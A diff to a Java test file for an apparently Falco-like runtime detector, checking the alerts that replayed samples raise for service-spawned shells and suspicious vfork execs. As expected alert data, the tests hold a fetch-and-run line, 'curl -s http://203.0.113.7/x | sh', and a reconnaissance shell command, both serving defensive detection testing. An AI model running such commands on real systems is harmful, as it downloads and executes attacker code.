@@ -84,10 +84,42 @@ class ReplayCommandTest {
         Cli.Result r = Cli.run("replay", Cli.sample("mixed.jsonl"));
         assertThat(r.code()).isZero();
         assertThat(r.out().split("\n")).containsExactly(
-                "2025-11-28T03:20:00.000500000Z Warning Vfork child exec from writable directory: vfork child 8101 of nginx (pid 8100) exec'd /tmp/.x/payload from a world-writable directory",
-                "2025-11-28T03:20:00.300500000Z Notice Vfork child exited without exec: vfork child 8301 of sshd (pid 8300) exited with code 126 without exec after 500.0us",
-                "2025-11-28T03:20:01.700100000Z Notice Vfork parent blocked: cron (pid 8200) was blocked 1.500s in vfork until child 8201 exec'd or exited",
-                "2025-11-28T03:20:05.400000000Z Warning Vfork child stalled: vfork child 8401 of java (pid 8400, via clone3) neither exec'd nor exited within 5.000s; the parent is blocked");
+                "2025-11-28T03:20:00.000500000Z Warning Vfork child exec from writable directory: vfork child 8101 of nginx (pid 8100) exec'd /tmp/.x/payload from a world-writable directory (cmdline=<NA> container=<NA>)",
+                "2025-11-28T03:20:00.300500000Z Notice Vfork child exited without exec: vfork child 8301 of sshd (pid 8300) exited with code 126 without exec after 500.0us (cmdline=<NA> container=<NA>)",
+                "2025-11-28T03:20:01.700100000Z Notice Vfork parent blocked: cron (pid 8200) was blocked 1.500s in vfork until child 8201 exec'd or exited (cmdline=<NA> container=<NA>)",
+                "2025-11-28T03:20:05.400000000Z Warning Vfork child stalled: vfork child 8401 of java (pid 8400, via clone3) neither exec'd nor exited within 5.000s; the parent is blocked (cmdline=<NA> container=<NA>)");
+    }
+
+    @Test
+    void contextSampleShowsTheNewRules() throws Exception {
+        Cli.Result r = Cli.run("replay", "--output", "json", Cli.sample("context.jsonl"));
+        assertThat(r.code()).as(r.err()).isZero();
+        List<JsonNode> a = alerts(r.out());
+        assertThat(a).extracting(n -> n.get("rule").asText() + " " + n.get("output_fields").get("proc.pid").asInt()).containsExactly(
+                "Shell spawned by a service 7101", "Vfork child exec'd from memory 7301",
+                "Vfork child exec from writable directory 7401");
+        JsonNode f = a.get(0).get("output_fields");
+        assertThat(f.get("proc.cmdline").asText()).isEqualTo("/bin/sh -c id; uname -a");
+        assertThat(f.get("proc.pexepath").asText()).isEqualTo("/usr/sbin/nginx");
+        assertThat(f.get("container.id").asText()).isEqualTo("3f4a5b6c7d8e");
+        assertThat(f.get("user.name").asText()).isEqualTo("www-data");
+        assertThat(a.get(1).get("priority").asText()).isEqualTo("Critical");
+        assertThat(a.get(1).get("tags")).extracting(JsonNode::asText).contains("T1620");
+        assertThat(a.get(2).get("output").asText()).contains("writable").contains("/tmp/.cache/updater");
+    }
+
+    @Test
+    void javaServiceConfigFromTheDocs() throws Exception {
+        Cli.Result r = Cli.run("replay", "--output", "json", "--config",
+                Cli.root().resolve("samples/config/java-service.yaml").toString(), Cli.sample("context.jsonl"));
+        assertThat(r.code()).as(r.err()).isZero();
+        List<JsonNode> shells = alerts(r.out()).stream().filter(n -> n.get("rule").asText().equals("Shell spawned by a service")).toList();
+        assertThat(shells).hasSize(2);
+        JsonNode f = shells.get(1).get("output_fields");
+        assertThat(f.get("proc.pid").asInt()).isEqualTo(7201);
+        assertThat(f.get("vfork.exec_index").asInt()).isEqualTo(2);
+        assertThat(f.get("proc.cmdline").asText()).isEqualTo("/bin/sh -c curl -s http://203.0.113.7/x | sh");
+        assertThat(f.get("proc.pexepath").asText()).isEqualTo("/usr/lib/jvm/java-17-openjdk-amd64/bin/java");
     }
 
     @Test
